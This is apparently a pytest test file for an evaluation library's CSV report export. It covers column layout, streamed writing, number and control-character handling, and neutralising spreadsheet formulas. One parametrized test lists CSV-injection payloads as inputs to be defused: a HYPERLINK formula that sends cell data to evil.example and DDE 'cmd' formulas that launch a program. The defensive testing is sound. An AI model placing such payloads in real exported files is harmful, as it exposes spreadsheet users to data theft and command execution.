"""A report as a table, which no spreadsheet computes."""

import csv
import io
import json
import re
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from calipers.data.jsonable import plain
from calipers.errors import CalipersError
from calipers.views.csv_file import CsvWriter, report_csv

TEXT = st.text(st.characters(exclude_categories=()))


def rows(text):
    """The table as any reader of CSV sees it."""
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def escaped(character):
    is_control = unicodedata.category(character) == "Cc"
    return character.encode("unicode_escape").decode() if is_control else character


@pytest.fixture(scope="module")
def report(records):
    return records.report(
        records.case(
            "france [1/2]",
            records.result("right", True),
            records.result("sure", -0.5),
            source_case_name="france",
            expected_output="Paris",
            has_expected_output=True,
            metrics={"tokens": 12},
            cluster="europe",
            tags=("easy", "two words"),
        ),
        records.case(
            "peru",
            records.result("sure", 2, "quite, so"),
            records.result("route", "south"),
            inputs={"country": "Peru"},
            metadata={"level": 1},
            output=None,
            metrics={"cost": -1.5},
            evaluator_failures=(
                records.broken("Judge", "ValueError: bad"),
                records.broken("Tone", "OSError: x"),
            ),
            skipped=(records.skip("right", "no answer"),),
        ),
        records.failure("chile", 'TimeoutError: "slow"\nvery', tries=2),
        dataset_name="=capitals",
        metadata={"model": "m-1"},
    )


GOLDEN = '''\
name,case,passed,right,sure,sure.reason,route,task_failure,evaluator_failures,skipped,task_duration,total_duration,tries,cluster,tags,metrics.tokens,metrics.cost,inputs,expected_output,output,metadata,run_name,dataset,run_metadata
france [1/2],france,true,true,-0.5,,,,,,0.25,0.5,1,europe,"[""easy"",""two words""]",12,,"""question france [1/2]""","""Paris""","""answer france [1/2]""",,answer,'=capitals,"{""model"":""m-1""}"
peru,peru,false,,2,"quite, so",south,,Judge: ValueError: bad; Tone: OSError: x,right: no answer,0.25,0.5,1,,,,-1.5,"{""country"":""Peru""}",,null,"{""level"":1}",answer,'=capitals,"{""model"":""m-1""}"
chile,chile,false,,,,,"TimeoutError: ""slow""
very",,,0.25,0.0,2,,,,,"""question chile""",,,,answer,'=capitals,"{""model"":""m-1""}"
'''


def test_there_is_a_row_for_each_attempt_and_a_column_for_each_result_and_metric(report):
    assert report_csv(report) == GOLDEN


def test_a_table_written_attempt_by_attempt_is_the_same(report, tmp_path):
    path = tmp_path / "new" / "report.csv"
    with CsvWriter(path) as writer:
        for record in [*report.cases, *report.failures]:
            writer.add(record)
    bare = path.read_text(encoding="utf-8")
    assert rows(bare) == [row | {"run_name": "", "dataset": "", "run_metadata": ""} for row in rows(GOLDEN)]
    path.unlink()
    writer = CsvWriter(path)
    for record in [*report.cases, *report.failures]:
        writer.add(record)
    writer.close(report)
    assert path.read_text(encoding="utf-8") == GOLDEN


def test_many_rows_wait_on_disk_and_come_back_in_order(records, tmp_path):
    path = tmp_path / "report.csv"
    with CsvWriter(path) as writer:
        for number in range(2_000):
            writer.add(records.case(str(number), inputs="x" * 10_000))
        assert not path.exists()
    with path.open(encoding="utf-8", newline="") as file:
        assert [row["name"] for row in csv.DictReader(file)] == [str(number) for number in range(2_000)]


def test_a_run_that_ends_in_an_error_leaves_no_table(report, tmp_path):
    path = tmp_path / "report.csv"
    with pytest.raises(KeyError), CsvWriter(path) as writer:
        writer.add(report.cases[0])
        raise KeyError
    assert not list(tmp_path.iterdir())


def test_a_closed_table_takes_nothing_more(report, tmp_path):
    writer = CsvWriter(tmp_path / "report.csv")
    writer.close()
    with pytest.raises(CalipersError, match="is closed"):
        writer.add(report.cases[0])


def test_a_report_without_attempts_is_a_header(records):
    assert report_csv(records.report()).count("\n") == 1


def test_a_title_that_is_taken_gets_a_number(records):
    case = records.case(
        "a",
        records.result("name", True),
        records.result("x", 1, "why"),
        records.result("x.reason", 2),
        records.result("metrics.m", 3),
        metrics={"m": 4},
    )
    (row,) = rows(report_csv(records.report(case)))
    assert (row["name"], row["name_2"]) == ("a", "true")
    assert (row["x"], row["x.reason"], row["x.reason_2"]) == ("1", "why", "2")
    assert (row["metrics.m"], row["metrics.m_2"]) == ("3", "4")


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example/?"&A1)',
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\tplain",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\u200b=1+1",
        "\ufeff=1+1",
        "＝1+1",  # noqa: RUF001
        "-",
        "-1-1",
        "+49 30 123",
        "--1",
    ],
)
def test_text_that_a_spreadsheet_would_compute_becomes_text(records, text):
    case = records.case(text, records.result(text, text, text), cluster=text, metrics={text: 1})
    written = report_csv(records.report(case))
    (row,) = rows(written)
    shown = text.replace("\r", "\\r")
    for cell in (row["name"], row["case"], row["cluster"]):
        assert cell == shown or cell == "'" + shown
    for cell in [cell for pair in row.items() for cell in pair]:
        assert not re.match(r"[=@+\t\r＝]|-\D|-.*[-+]|\s*=", cell), cell  # noqa: RUF001


@pytest.mark.parametrize("number", [-1, -0.5, -1e-12, 1e300, 0, -(2**100)])
def test_a_number_stays_a_number(records, number):
    case = records.case("a", records.result("s", number), inputs=number, metrics={"m": number})
    (row,) = rows(report_csv(records.report(case)))
    assert [float(row[column]) for column in ("s", "metrics.m", "inputs")] == [number] * 3


@pytest.mark.parametrize("label", ["-1", "+1", "-0.5", "1e9", ".5", "-1.5e-3"])
def test_a_label_that_is_a_number_is_left_alone(records, label):
    (row,) = rows(report_csv(records.report(records.case("a", records.result("l", label)))))
    assert row["l"] == label


def test_control_characters_are_shown_and_line_breaks_kept(records):
    case = records.case("a", records.result("x", False, "one\r\ntwo\x1b[31m\x00\x9b\rthree\tfour"))
    (row,) = rows(report_csv(records.report(case)))
    assert row["x.reason"] == "one\ntwo\\x1b[31m\\x00\\x9b\\rthree\tfour"


@given(names=st.lists(TEXT, max_size=4), value=TEXT, label=TEXT)
def test_whatever_the_text_the_table_has_its_shape_and_its_values(records, names, value, label):
    report = records.report(
        *(
            records.case(name, records.result("l", label, value), inputs=value, output=[value])
            for name in names
        ),
        *(records.failure(name, value) for name in names),
    )
    text = report_csv(report)
    found = rows(text)
    assert "\r" not in text
    assert len(found) == 2 * len(names)
    assert all(len(row) == len(found[0]) and None not in row for row in found)
    for row, name in zip(found, names + names, strict=True):
        shown = "".join(c if c in "\t\n" else escaped(c) for c in plain(name).replace("\r\n", "\n"))
        assert row["name"] in {shown, "'" + shown}
        assert json.loads(row["inputs"]) == (plain(value) if row["output"] else f"question {plain(name)}")
